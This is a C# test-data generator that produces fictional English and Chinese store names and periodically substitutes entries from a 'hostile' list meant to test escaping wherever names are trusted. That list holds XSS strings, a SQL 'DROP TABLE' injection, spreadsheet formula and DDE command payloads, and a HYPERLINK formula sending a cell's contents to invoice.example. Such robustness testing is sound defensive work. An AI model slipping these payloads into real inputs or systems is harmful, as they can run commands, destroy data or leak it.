namespace TierFunctions.Local.Sample;

/// <summary>Invented names, some Chinese, and now and then one that does harm wherever a name is trusted.</summary>
internal static class StoreName
{
    private const int PlacesPerHostileName = 90;

    private static readonly string[] firsts =
    [
        "Amber", "Blue Heron", "Cedar", "Dawn", "East Harbour", "Fern", "Golden Wheat", "Hazel", "Ivory", "Juniper", "Kestrel", "Lotus",
        "Maple", "Northgate", "Orchid", "Pine Ridge", "Quartz", "River Bend", "Silverleaf", "Thistle", "Umber", "Violet", "Willow", "Zephyr",
    ];

    private static readonly string[] lasts =
        ["Atelier", "Bazaar", "Collective", "Corner", "Depot", "Direct", "Emporium", "Gallery", "House", "Market", "Supply", "Works"];

    private static readonly string[] chineseFirsts =
        ["云帆", "锦程", "海棠", "山月", "星河", "春晓", "明珠", "金禾", "东篱", "青禾", "瑞丰", "百川", "晨光", "木兰", "远航", "嘉禾"];

    private static readonly string[] chineseLasts = ["生活馆", "优品", "良品", "贸易", "工坊", "商行", "科技", "之家"];

    private static readonly string[] hostile =
    [
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://invoice.example/?s=\"&A1,\"Open\")",
        "The \"Original\" Lamp Shop",
        "Smith, Jones, \"Sons\" & Co.",
        "\u202Eknab ruoY\u202C \u200FShop",
        "<img src=x onerror=\"alert('1')\">",
        "+86 755 0000 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*2",
        "Robert'); DROP TABLE stores;--",
        "{{7*7}} ${7*7} [link](javascript:alert(1))",
        "😀👩‍👩‍👧 Cafe\u0301 Ｓｈｏｐ",
    ];

    public static string Draw(Chance chance, int place, string storeType)
    {
        if (place % PlacesPerHostileName == 7) return hostile[place / PlacesPerHostileName % hostile.Length];
        return chance.Is(0.35)
            ? chance.Among(chineseFirsts) + chance.Among(chineseLasts) + ChineseSuffix(storeType)
            : $"{chance.Among(firsts)} {chance.Among(lasts)}{Suffix(storeType)}";
    }

    private static string Suffix(string storeType) => storeType switch
    {
        "official" => " Official Store",
        "franchise" => " Franchise Store",
        "specialty" => " Specialty Store",
        _ => "",
    };

    private static string ChineseSuffix(string storeType) => storeType switch
    {
        "official" => "旗舰店",
        "franchise" => "专营店",
        "specialty" => "专卖店",
        _ => "",
    };
}
